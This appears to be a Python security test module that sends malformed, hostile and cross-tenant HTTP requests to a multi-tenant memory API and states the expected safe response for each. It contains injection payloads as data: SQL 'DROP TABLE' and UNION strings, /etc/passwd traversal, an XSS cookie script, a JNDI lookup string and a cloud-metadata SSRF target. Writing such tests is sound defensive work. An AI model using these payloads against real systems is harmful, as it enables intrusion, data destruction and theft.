"""The hostile bench's requests: malformed, hostile and cross-tenant, each with what must
come back.

A ``Probe`` is one raw HTTP request (bytes, so it can carry what no well-behaved client
sends) and an ``Expect``: ``REJECT`` (a 4xx), ``UNKNOWN`` (for another tenant's id: the
very answer an unknown id gets) or ``HARMLESS`` (a 4xx, or a 2xx that stays inside the
caller's tenant and passes the probe's own ``check``). Tenant A sends most of them;
tenant C sends the injection strings as data, which must be stored verbatim, and tenant
D imports B's export (a copy in D must leave B as it was).
"""

from __future__ import annotations

import enum
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from remem.bench.serving.process import Reply

JSON = "application/json"
MIB = 1 << 20

INJECTIONS = (
    "' OR '1'='1' --",
    '"; DROP TABLE messages; --',
    "Robert'); DROP TABLE memories;--",
    "' UNION SELECT hash, tenant FROM api_keys --",
    "*/ OR 1=1 /*",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "<script>alert(document.cookie)</script>",
    "%s%s%s%n %x {0} {0.__class__} ${jndi:ldap://x/a}",
    "\u202eexe.tnemhcatta\u202c.txt",
    "zero\u200bwidth\ufeff and \u2066isolate\u2069",
    "\U0001d54f \U0001f9e0 \U0010fffd",
)


class Expect(enum.Enum):
    """What a probe must get back."""

    REJECT = "a 4xx"
    UNKNOWN = "the answer an unknown id gets"
    HARMLESS = "a 4xx, or a 2xx confined to the caller's tenant"


# ``check(reply, fetch)``: a problem, or None; ``fetch(method, target)`` asks the server
# again with the probe's key
Fetch = Callable[[str, str], Reply]
Check = Callable[[Reply, Fetch], "str | None"]


@dataclass(frozen=True)
class Probe:
    """One request. ``auth`` is a key's name (``a``, ``b``, ``c``, ``d``, ``admin``,
    ``revoked``), ``none`` for no header, or a literal header value in which ``{a}``
    stands for tenant A's key. ``target`` may hold ``\\udcXX`` for a raw byte 0xXX.
    ``foreign`` is the other tenant's id inside ``target`` (for ``UNKNOWN``)."""

    name: str
    method: str
    target: str
    body: bytes | None = None
    auth: str = "a"
    expect: Expect = Expect.REJECT
    content_type: str | None = JSON
    chunked: bool = False
    headers: tuple[tuple[str, str], ...] = ()
    foreign: str | None = None
    check: Check | None = None


@dataclass(frozen=True)
class Fixture:
    """The data the probes aim at: A's own memory and export, B's memories, messages,
    key and export; ``b_markers``: strings of B's that no other tenant may be shown;
    ``server_paths``: where the server keeps its files, which no answer may mention."""

    a_memory: str
    a_export: bytes
    b_memories: tuple[str, ...]
    b_messages: tuple[str, ...]
    b_key_id: str
    b_user: str
    b_export: bytes
    b_markers: tuple[str, ...] = ()
    server_paths: tuple[str, ...] = ()


def dumps(value: Any) -> bytes:
    """JSON bytes as Python writes them (NaN and Infinity included)."""
    return json.dumps(value).encode("utf-8")


def nested(depth: int, open_: str = "[", close: str = "]", inner: str = "") -> str:
    """``depth`` levels of nesting as JSON text."""
    return open_ * depth + inner + close * depth


def _bodies(method: str, target: str, bodies: Sequence[tuple[str, bytes]]) -> list[Probe]:
    return [Probe(f"{target} {name}", method, target, body) for name, body in bodies]


# ------------------------------------------------------------------------------- auth


def auth_probes(fx: Fixture) -> list[Probe]:
    """Missing, malformed, unknown and revoked keys; a tenant key on admin routes."""
    headers = [
        ("no Authorization header", "none"), ("empty bearer", "Bearer "),
        ("bearer without a key", "Bearer"), ("Basic scheme", "Basic dXNlcjpwYXNz"),
        ("Token scheme with A's key", "Token {a}"), ("unknown key", "Bearer rk_" + "x" * 43),
        ("revoked key", "revoked"), ("key of 10,000 chars", "Bearer rk_" + "a" * 10_000),
        ("SQL injection as key", "Bearer ' OR '1'='1"),
        ("path traversal as key", "Bearer ../../etc/passwd"),
        ("format string as key", "Bearer %s%s%n{0}"),
        ("<script> as key", "Bearer <script>alert(1)</script>"),
        ("latin-1 byte in key", "Bearer rk_\udce9"), ("NUL byte in key", "Bearer rk_\x00x"),
        ("A's key twice", "Bearer {a} {a}"), ("A's key with a suffix", "Bearer {a}x"),
    ]  # fmt: skip
    routes = [("GET", "/v1/stats", None), ("POST", "/v1/search", dumps({"query": "vault"})),
              ("GET", "/v1/memories", None), ("GET", "/v1/export", None),
              ("POST", "/v1/memories", dumps({"messages": "hi"}))]  # fmt: skip
    probes = [
        Probe(f"auth: {name}", *routes[n % len(routes)][:2], routes[n % len(routes)][2], auth=value)
        for n, (name, value) in enumerate(headers)
    ]
    return [
        *probes,
        Probe("auth: tenant key lists keys", "GET", "/v1/keys"),
        Probe(
            "auth: tenant key creates an admin key",
            "POST",
            "/v1/keys",
            dumps({"tenant": "tenant-b", "admin": True}),
        ),
        Probe("auth: tenant key revokes B's key", "DELETE", f"/v1/keys/{fx.b_key_id}"),
        Probe(
            "auth: revoked key adds",
            "POST",
            "/v1/memories",
            dumps({"messages": "hi"}),
            auth="revoked",
        ),
        Probe(
            "auth: no key deletes B's scope",
            "DELETE",
            f"/v1/memories?user_id={fx.b_user}",
            auth="none",
        ),
        Probe("auth: no key imports", "POST", "/v1/import", fx.b_export, auth="none"),
        Probe(
            "auth: no key reads B's memory", "GET", f"/v1/memories/{fx.b_memories[0]}", auth="none"
        ),
    ]


# ------------------------------------------------------------------------------ bodies


NOT_JSON: tuple[tuple[str, bytes], ...] = (
    ("malformed JSON", b'{"messages": "hi",}'),
    ("truncated JSON", b'{"messages": "hi"'),
    ("empty body", b""),
    ("JSON null", b"null"),
    ("JSON array", b"[]"),
    ("JSON string", b'"hi"'),
    ("JSON number", b"42"),
    ("invalid UTF-8", b'{"messages": "\xff\xfe"}'),
    ("raw NUL byte in a string", b'{"messages": "a\x00b"}'),
    ("NaN literal", b'{"messages": "hi", "timestamp": NaN}'),
    ("arrays nested 100,000 deep", b'{"messages": ' + nested(100_000).encode() + b"}"),
    ("objects nested 5,000 deep in metadata",
     b'{"messages": "hi", "metadata": ' + nested(5000, '{"a": ', "}", "1").encode() + b"}"),
)  # fmt: skip


def framing_probes() -> list[Probe]:
    """Bodies that are not JSON, too large, or framed wrongly."""
    big = b'{"messages": "' + b"a" * (2 * MIB) + b'"}'
    hi = dumps({"messages": "hi"})
    lengths = {"not a number": "abc", "negative": "-1", "of 10^30": "1" + "0" * 30}
    kinds = {"text/plain": "text/plain", "form-encoded": "application/x-www-form-urlencoded"}
    return [
        *_bodies("POST", "/v1/memories", NOT_JSON),
        Probe("UTF-16 body (JSON's old encodings: allowed)", "POST", "/v1/memories",
              '{"messages": "hi"}'.encode("utf-16"), auth="c", expect=Expect.HARMLESS),
        Probe("over 1 MiB with Content-Length", "POST", "/v1/memories", big),
        Probe("over 1 MiB chunked, no Content-Length", "POST", "/v1/memories", big, chunked=True),
        Probe("over 1 MiB to /v1/search", "POST", "/v1/search", big),
        *[Probe(f"Content-Length {name}", "POST", "/v1/memories", b"{}",
                headers=(("Content-Length", value),)) for name, value in lengths.items()],
        *[Probe(f"{name} body", "POST", "/v1/memories", b"messages=hi" if "form" in name else hi,
                content_type=kind) for name, kind in kinds.items()],
        Probe("no Content-Type", "POST", "/v1/memories", hi, content_type=None),
    ]  # fmt: skip


BAD_MESSAGES: tuple[Any, ...] = (123, True, None, {}, [], [1], ["x"], "")
BAD_MESSAGE: tuple[tuple[str, dict[str, Any]], ...] = (
    ("role 7", {"role": 7}), ("role wizard", {"role": "wizard"}),
    ("empty content", {"content": ""}), ("blank content", {"content": "   "}),
    ("content null", {"content": None}), ("content list", {"content": ["x"]}),
    ("escaped NUL in content", {"content": "a\x00b"}), ("id 5", {"id": 5}),
    ("empty id", {"id": ""}), ("id with newline", {"id": "a\nb"}),
    ("id of 300 chars", {"id": "i" * 300}), ("bad timestamp", {"timestamp": "soonish"}),
    ("metadata string", {"metadata": "no"}), ("unknown key", {"evil": 1}),
    ("name object", {"name": {"a": 1}}), ("content over 32,000 chars", {"content": "w " * 20_000}),
)  # fmt: skip
BAD_IDS: tuple[Any, ...] = (5, True, [], {}, "", " ", "a\tb", "u" * 300, "a\x00")
BAD_METADATA: tuple[Any, ...] = ("str", [1], 5, True, {"a": float("nan")}, {"big": "m" * 70_000})
BAD_TIMES: tuple[Any, ...] = ("not a date", {}, [], True, float("inf"), 1e300, "9999-99-99", -1e20)


def add_probes() -> list[Probe]:
    """Wrong types, missing and unknown fields in POST /v1/memories."""
    hi = {"messages": "hi"}
    deep = json.loads(nested(25, '{"a": ', "}", "1"))  # over MAX_METADATA_DEPTH
    fields: list[tuple[str, Any]] = [
        ("no fields", {}), ("unknown field", {**hi, "evil": 1}),
        ("namespace field naming B", {**hi, "namespace": "tenant-b"}),
        ("tenant field naming B", {**hi, "tenant": "tenant-b"}),
        ("agent_id=False", {**hi, "agent_id": False}),
        ("session_id=1.5", {**hi, "session_id": 1.5}),
        ("metadata 25 levels deep", {**hi, "metadata": deep}),
    ]  # fmt: skip
    fields += [(f"messages={v!r}", {"messages": v}) for v in BAD_MESSAGES]
    one = {"role": "user", "content": "x"}
    fields += [(f"message {name}", {"messages": [{**one, **v}]}) for name, v in BAD_MESSAGE]
    fields += [(f"user_id={v!r}"[:40], {**hi, "user_id": v}) for v in BAD_IDS]
    fields += [(f"metadata={v!r}"[:40], {**hi, "metadata": v}) for v in BAD_METADATA]
    fields += [(f"timestamp={v!r}", {**hi, "timestamp": v}) for v in BAD_TIMES]
    return _bodies("POST", "/v1/memories", [(name, dumps(body)) for name, body in fields])


def read_probes() -> list[Probe]:
    """Bad bodies for POST /v1/search and /v1/context."""
    q = {"query": "vault"}
    search: list[tuple[str, Any]] = [
        ("no query", {}), ("query 5", {"query": 5}), ("empty query", {"query": ""}),
        ("query null", {"query": None}), ("blank query", {"query": "  "}),
        ("NUL in query", {"query": "a\x00"}), ("query over 32,000 chars", {"query": "q " * 20_000}),
        *[(f"{k}={v!r}"[:40], {**q, k: v}) for k, v in (
            ("limit", "ten"), ("limit", 0), ("limit", -1), ("limit", 10**30), ("limit", 1.5),
            ("kinds", ["bogus"]), ("kinds", "turn"), ("kinds", [5]), ("metadata", {"bad key!": 1}),
            ("metadata", "x"), ("recipe", "nope"), ("recipe", "../../etc/passwd"), ("recipe", 5),
            ("explain", []), ("reference_time", "garbage"), ("reference_time", {}),
            ("since", "garbage"), ("until", float("nan")), ("namespace", "tenant-b"),
            ("user_id", {"$ne": None}),
        )],
    ]  # fmt: skip
    context: list[tuple[str, Any]] = [
        ("no query", {}), ("budget_tokens=-5", {**q, "budget_tokens": -5}),
        ("budget_tokens=10^12", {**q, "budget_tokens": 10**12}),
        ("candidates=0", {**q, "candidates": 0}), ("candidates='x'", {**q, "candidates": "x"}),
        ("unknown field", {**q, "evil": 1}),
    ]  # fmt: skip
    return [*_bodies("POST", "/v1/search", [(n, dumps(b)) for n, b in search]),
            *_bodies("POST", "/v1/context", [(n, dumps(b)) for n, b in context])]  # fmt: skip


def update_probes(fx: Fixture) -> list[Probe]:
    """Bad PATCH bodies for A's own memory (any success would change the store)."""
    fields: list[tuple[str, Any]] = [
        ("text", ""), ("text", 5), ("text", "x\x00"), ("pinned", "maybe"), ("importance", "high"),
        ("importance", float("nan")), ("importance", float("inf")), ("importance", 7),
        ("importance", True),
        ("expires_at", "never"), ("metadata", [1]), ("evil", 1), ("reason", 5),
    ]  # fmt: skip
    bodies = [(f"{k}={v!r}", dumps({k: v})) for k, v in fields] + [
        ("no changes", b"{}"), ("reason only", dumps({"reason": "x"})),
        ("empty reason", dumps({"pinned": True, "reason": ""})),
        ("malformed JSON", b'{"pinned": tru'), ("body null", b"null"),
    ]  # fmt: skip
    return _bodies("PATCH", f"/v1/memories/{fx.a_memory}", bodies)


def key_probes() -> list[Probe]:
    """Bad requests to the key routes, with an admin key (any success changes the keys)."""
    bodies = [{}, {"tenant": ""}, {"tenant": 5}, {"tenant": "x", "admin": "root"},
              {"tenant": "a\x00"}, {"tenant": "x", "evil": 1}, {"tenant": "t" * 300},
              {"tenant": "x", "name": "n" * 300}]  # fmt: skip
    return [
        *[
            Probe(f"keys: create {json.dumps(b)[:40]}", "POST", "/v1/keys", dumps(b), "admin")
            for b in bodies
        ],
        Probe("keys: revoke an unknown key", "DELETE", "/v1/keys/000000000000", auth="admin"),
        Probe("keys: revoke key id NUL", "DELETE", "/v1/keys/%00", auth="admin"),
        Probe(
            "keys: revoke injection id",
            "DELETE",
            "/v1/keys/" + quote("' OR 1=1 --", safe=""),
            auth="admin",
        ),
    ]


def import_probes(fx: Fixture) -> list[Probe]:
    """Files /v1/import must refuse, all or nothing."""
    header = {
        "type": "header",
        "format": "remem-export",
        "version": 1,
        "namespace": "x",
        "embedder": "all-MiniLM-L6-v2-onnx-int8:384",
        "exported_at": "2024-01-01T00:00:00",
    }
    bad_row = {"type": "memory", "id": "m1"}
    bodies = [
        ("garbage", b"garbage"), ("invalid UTF-8", b"\xff\xfe\xfd"), ("empty file", b""),
        ("NUL bytes", b"\x00" * 64), ("a JSON array", b"[1, 2]"),
        ("wrong format name", dumps({**header, "format": "other"})),
        ("version 99", dumps({**header, "version": 99})),
        ("a memory row missing fields", dumps(header) + b"\n" + dumps(bad_row)),
        ("a row nested 100,000 deep", dumps(header) + b"\n" + nested(100_000).encode()),
        ("the tenant's own export again (conflicts)", fx.a_export),
    ]  # fmt: skip
    return [Probe(f"import: {name}", "POST", "/v1/import", body, content_type=None)
            for name, body in bodies]  # fmt: skip


# ------------------------------------------------------------------- paths and queries


def path_probes() -> list[Probe]:
    """Hostile memory ids in the path, unknown routes and methods, raw request targets."""
    ids = [
        quote("' OR '1'='1", safe=""), quote("1; DROP TABLE memories;--", safe=""),
        "..%2F..%2Fetc%2Fpasswd", "..%252F..%252Fetc%252Fpasswd",
        quote("<script>alert(1)</script>", safe=""), "%25s%25s%25n", quote("{0.__class__}"),
        quote("\u202etxt.exe"), "%00", "%FF%FE", "i" * 300, "a%0Ab", "%20", "*",
    ]  # fmt: skip
    probes = [Probe(f"path: GET memory {i[:30]}", "GET", f"/v1/memories/{i}") for i in ids]
    for method, suffix, body in (("GET", "/history", None), ("DELETE", "", None),
                                 ("PATCH", "", dumps({"pinned": True}))):  # fmt: skip
        probes += [Probe(f"path: {method} memory{suffix} {i[:20]}", method,
                         f"/v1/memories/{i}{suffix}", body) for i in ids[::4]]  # fmt: skip
    return [
        *probes,
        Probe("path: dot segments", "GET", "/v1/../../etc/passwd"),
        Probe("path: dot segments to keys", "GET", "/v1/memories/../keys"),
        Probe("path: raw byte 0xFF", "GET", "/v1/memories/��"),
        Probe("path: URL of 100,000 chars", "GET", "/v1/memories/" + "u" * 100000),
        Probe("path: unknown route", "GET", "/v1/admin"),
        Probe("path: nested unknown route", "GET", "/v1/memories/x/y/z"),
        Probe("path: PUT /v1/memories", "PUT", "/v1/memories", b"{}"),
        Probe("path: TRACE /v1/stats", "TRACE", "/v1/stats", content_type=None),
        Probe("path: absolute-form target", "GET", "http://169.254.169.254/latest/meta-data/"),
    ]


def query_probes(fx: Fixture) -> list[Probe]:
    """Query parameters of GET and DELETE /v1/memories."""
    reject = [
        "user_id=%00", "user_id=" + "u" * 300, "kind=bogus", "kind=turn&kind=%27%20OR%201%3D1",
        "limit=-1", "limit=abc", "limit=0", "limit=" + "9" * 30, "offset=-1", "offset=abc",
        "offset=" + "9" * 30, "metadata=notjson", "metadata=%5B1%5D",
        "metadata=" + quote('{"bad key!": 1}'),
        "metadata=" + quote(nested(5000, '{"a":', "}", "1")),
        "since=garbage", "until=%00", "since=" + "9" * 30,
    ]  # fmt: skip
    harmless = ["user_id=" + quote("' OR 1=1 --"), "user_id=" + quote("<script>"),
                "user_id=%FF", "metadata=" + quote('{"a": {"$gt": ""}}'),
                f"user_id={fx.b_user}", "agent_id=" + quote("*")]  # fmt: skip
    return [
        *[Probe(f"query: {q[:40]}", "GET", f"/v1/memories?{q}") for q in reject],
        *[
            Probe(f"query: {q[:40]}", "GET", f"/v1/memories?{q}", expect=Expect.HARMLESS)
            for q in harmless
        ],
        Probe("query: delete without a scope", "DELETE", "/v1/memories"),
        Probe("query: delete user_id NUL", "DELETE", "/v1/memories?user_id=%00"),
        Probe(
            "query: delete B's user scope",
            "DELETE",
            f"/v1/memories?user_id={fx.b_user}",
            expect=Expect.HARMLESS,
        ),
        Probe(
            "query: delete injection scope",
            "DELETE",
            "/v1/memories?user_id=" + quote("' OR 1=1 --"),
            expect=Expect.HARMLESS,
        ),
    ]


# ------------------------------------------------------------------------ other tenant


def _fresh_ids(sent: Sequence[str]) -> Check:
    """Tenant C reusing B's message ids: they must be new to C (nothing says B has them)."""

    def check(reply: Reply, _fetch: Fetch) -> str | None:
        if reply.status != 201:
            return f"refused with {reply.status}"
        answer = reply.json()
        if answer["duplicate_ids"] or sorted(answer["message_ids"]) != sorted(sent):
            return f"ids not fresh in C: {answer['message_ids']} / {answer['duplicate_ids']}"
        return None

    return check


def foreign_probes(fx: Fixture) -> list[Probe]:
    """Tenant A asking for B's data by id, scope and content; C reusing B's ids."""
    b0, b1 = fx.b_memories[:2]
    unknown = [
        ("GET", f"/v1/memories/{b0}", None), ("GET", f"/v1/memories/{b0}/history", None),
        ("PATCH", f"/v1/memories/{b0}", dumps({"text": "pwned"})),
        ("PATCH", f"/v1/memories/{b1}", dumps({"pinned": True})),
        ("PATCH", f"/v1/memories/{b1}", dumps({"metadata": {"owner": "a"}})),
        ("DELETE", f"/v1/memories/{b0}", None), ("DELETE", f"/v1/memories/{b1}", None),
        ("GET", f"/v1/memories/{b1}/history", None),
        ("GET", f"/v1/memories/{fx.b_messages[0]}", None),
    ]  # fmt: skip
    probes = [Probe(f"foreign: {m} {t.replace(b0, 'B0').replace(b1, 'B1')} {body or b''!r}",
                    m, t, body, expect=Expect.UNKNOWN, foreign=t.split("/")[3])
              for m, t, body in unknown]  # fmt: skip
    b_scope = {"user_id": fx.b_user}
    reads: list[tuple[str, str, str, Any]] = [
        ("search B's words", "POST", "/v1/search", {"query": "vault code qz4471vault"}),
        ("search B's user", "POST", "/v1/search", {"query": "vault code", **b_scope}),
        ("context B's user", "POST", "/v1/context", {"query": "vault code", **b_scope}),
        ("list B's user", "GET", f"/v1/memories?user_id={fx.b_user}", None),
        ("stats", "GET", "/v1/stats", None), ("export", "GET", "/v1/export", None),
    ]  # fmt: skip
    probes += [Probe(f"foreign: {name}", m, t, None if b is None else dumps(b),
                     expect=Expect.HARMLESS) for name, m, t, b in reads]  # fmt: skip
    sent = list(fx.b_messages)
    body = {"messages": [{"role": "user", "content": f"C's own {i}", "id": i} for i in sent],
            "user_id": fx.b_user}  # fmt: skip
    probes += [
        Probe("foreign: C adds with B's message ids", "POST", "/v1/memories", dumps(body),
              auth="c", expect=Expect.HARMLESS, check=_fresh_ids(sent)),
        Probe("foreign: D imports B's export", "POST", "/v1/import", fx.b_export, auth="d",
              expect=Expect.HARMLESS, content_type=None),
    ]  # fmt: skip
    return probes


def _verbatim(text: str) -> Check:
    """An injection string sent as data must be stored and read back exactly."""

    def check(reply: Reply, fetch: Fetch) -> str | None:
        if reply.status != 201:
            return f"valid text refused with {reply.status}"
        memory = reply.json()["memories"][0]
        again = fetch("GET", f"/v1/memories/{memory['id']}")
        stored = again.json() if again.status == 200 else {}
        if text not in stored.get("text", "") or stored.get("scope", {}).get("user_id") != text:
            return f"not stored verbatim: {again.status} {again.body[:120]!r}"
        listed = fetch("GET", f"/v1/memories?user_id={quote(text, safe='')}")
        if listed.status != 200 or [m["id"] for m in listed.json()["items"]] != [memory["id"]]:
            return f"listing its user gave {listed.status} {listed.body[:120]!r}"
        return None

    return check


def injection_probes() -> list[Probe]:
    """Injection strings as data in every field (tenant C, stored verbatim), and as
    search terms and filters (read only)."""
    probes = []
    for n, text in enumerate(INJECTIONS):
        message = {"role": "user", "content": text, "id": text, "name": text,
                   "metadata": {"k": text}}  # fmt: skip
        body = {"messages": [message], "user_id": text, "session_id": text,
                "agent_id": text, "metadata": {"x": text}}  # fmt: skip
        probes.append(Probe(f"injection as data #{n}", "POST", "/v1/memories", dumps(body),
                            auth="c", expect=Expect.HARMLESS, check=_verbatim(text)))  # fmt: skip
        search = {"query": text, "user_id": text, "session_id": text, "recipe": "default"}
        probes.append(Probe(f"injection as search #{n}", "POST", "/v1/search", dumps(search),
                            auth="c", expect=Expect.HARMLESS))  # fmt: skip
    return probes


def all_probes(fx: Fixture) -> list[Probe]:
    """Every probe, in the order they are sent."""
    return [
        *auth_probes(fx), *framing_probes(), *add_probes(), *read_probes(),
        *update_probes(fx), *key_probes(), *import_probes(fx), *path_probes(),
        *query_probes(fx), *foreign_probes(fx), *injection_probes(),
    ]  # fmt: skip
